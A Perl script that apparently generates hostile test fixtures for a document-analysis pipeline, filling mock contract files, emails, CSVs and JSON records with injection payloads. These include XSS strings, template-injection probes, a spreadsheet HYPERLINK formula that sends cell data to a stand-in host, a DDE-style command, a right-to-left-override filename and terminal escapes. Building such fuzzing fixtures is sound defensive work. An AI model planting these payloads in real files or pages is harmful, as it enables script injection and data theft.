#!/usr/bin/perl
# hostile.pl DIR: a dump in DIR whose names, texts and metadata are full of markup, scripts,
# formulas, right-to-left marks and terminal escapes; and, on standard output, records that
# carry the same in every field a record has.
use strict; use warnings; use utf8; use Encode 'encode_utf8'; use JSON::PP;
my ($dir) = @ARGV; mkdir $dir;
my @evil = ('</script><script>window.hit=1</script>', '"><img src=x onerror=window.hit=1>', "'><svg/onload=window.hit=1>", '<!--<script>', ']]>', '{{7*7}}', '${7*7}', 'javascript:window.hit=1',
	'=HYPERLINK("http://198.51.100.7/?"&A1)', '+cmd|calc', '@SUM(1+1)', "-2+3", "\x{202E}gpj.exe", "\x{2066}\x{200F}abc", "\e[31mred\e[0m\e]0;title\a", "a\x{0}b", "%s%n%d", '\\u003cscript\\u003e', 'https://198.51.100.7/track.gif',
	"\x{1F468}\x{200D}\x{1F469}", "x" x 3000, "\x{0301}" x 300, "<style>*{display:none}</style>", '&lt;script&gt;', "\x02in\x03mark\x03\x03");
my $n = 0;
sub put { my ($name, $bytes) = @_; open my $f, '>', "$dir/" . encode_utf8($name) or return; print $f $bytes; close $f }
for my $e (@evil) {
	(my $name = substr $e, 0, 60) =~ s{[/\0]}{_}g; $n++;
	my $text = "技术服务合同\n合同编号：DY-2021-00$n\n甲方：北山市公安局$e\n乙方：东游信息${e}有限公司\n金额 120 万元 $e\n联系 li$n\@mail.example 电话 13812345678\n";
	put("$n-$name.txt", encode_utf8($text));
	put("$n-$name.html", encode_utf8("<html><head><title>" . ($e =~ s/</&lt;/gr) . "</title><meta name=author content=\"" . ($e =~ s/"/&quot;/gr) . "\"></head><body>$e $text</body></html>"));
	my $subject = $e =~ s/[\r\n\0]//gr;
	put("$n.eml", encode_utf8("From: \"$subject\" <li$n\@mail.example>\nTo: wang\@mail.example\nSubject: $subject\nDate: Mon, 1 Mar 2021 10:00:00 +0000\nContent-Type: text/html; charset=utf-8\n\n$text"));
	put("$n.csv", encode_utf8("姓名,电话,备注\n$e,13812345678,\"" . ($e =~ s/"/""/gr) . "\"\n"));
}
put("new\nline.txt", 'x'); put(' lead.txt', 'x'); put("\xff\xfe.txt", 'x');
my $j = JSON::PP->new->canonical->utf8;
for my $e (@evil) {
	my $id = sprintf '%064x', 0xabc + $n++; my @more = (item => $id, path => "$e.txt");
	print $j->encode({sluice => 1, %$_}), "\n" for
		{type => 'item', id => $id, path => "$e.txt", size => 7, mtime => $e, kind => 'file', depth => 0, identify => {format => $e, mime => $e, charset => $e}, text => {by => $e, chars => 9, lang => $e, meta => {title => $e, author => $e, created => $e, date => "2021-01-01", subject => $e}}},
		(map { {type => 'ref', @more, kind => $_, value => $e, raw => $e, start => -1, end => -1, page => 1, context => "vor $e nach", score => 0.9, role => 'target', by => $e} } qw(organization email domain url phone wechat ipv4 malware cve btc), $e),
		{type => 'ref', @more, kind => 'organization', value => "$e GmbH", raw => $e, start => 3, end => 9, context => $e, score => 0.5, role => $e, by => 'x'},
		{type => 'target', @more, name => $e, country => $e, sector => $e, host => $e, what => $e, volume => $e, date => $e, score => 0.8},
		{type => 'target', @more, name => "$e 2", country => 'IN', sector => 'government', date => '2021-05', score => 0.8},
		{type => 'contract', @more, number => $e, title => "“$e”", party_a => $e, party_b => "$e b", amount => 1e300, currency => $e, signed => $e, score => 0.8},
		{type => 'contract', @more, number => "$e 2", title => "“$e”", party_a => $e, party_b => "$e b", amount => 5, currency => 'CNY', signed => '2021-01-01', score => 0.8},
		{type => 'error', @more, stage => $e, code => $e, message => $e};
}
